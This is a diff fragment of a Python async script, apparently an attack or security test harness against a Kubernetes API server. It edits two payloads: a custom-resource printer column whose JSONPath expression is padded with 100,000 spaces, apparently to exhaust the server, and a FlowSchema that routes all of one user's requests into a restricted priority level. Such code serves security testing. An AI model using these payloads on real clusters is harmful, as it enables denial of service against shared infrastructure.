@@ -158,7 +158,7 @@ async def columns(who: Attacker) -> list[Any]:
         if await who.ask("GET", path) == 200:
             break
         await asyncio.sleep(0.05)
-    column = {"name": "c", "type": "string", "jsonPath": "[?(@" + " " * 100_000}
+    column = {"name": "c", "type": "string", "jsonPath": ".a[?(@" + " " * 100_000}
     add = [{"op": "add", "path": "/spec/versions/0/additionalPrinterColumns", "value": [column]}]
     statuses.append(await who.ask("PATCH", f"{DEFINITIONS}/columns.attack.example", add, **JSON_PATCH))
     await asyncio.sleep(0.5)
@@ -177,7 +177,7 @@ async def queues(who: Attacker) -> list[Any]:
     level = {**head, "kind": "PriorityLevelConfiguration", "spec": {"type": "Limited", "limited": limited}}
     everything = {"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"], "namespaces": ["*"]}
     rule = {"subjects": [{"kind": "User", "user": {"name": "bob"}}], "resourceRules": [everything]}
-    spec = {"matchingPrecedence": 1, "priorityLevelConfiguration": {"name": "attack"}, "rules": [rule]}
+    spec = {"matchingPrecedence": 2, "priorityLevelConfiguration": {"name": "attack"}, "rules": [rule]}
     statuses: list[Any] = [await who.ask("POST", f"{here}/prioritylevelconfigurations", level)]
     statuses.append(await who.ask("POST", f"{here}/flowschemas", {**head, "kind": "FlowSchema", "spec": spec}))
     await asyncio.sleep(0.5)
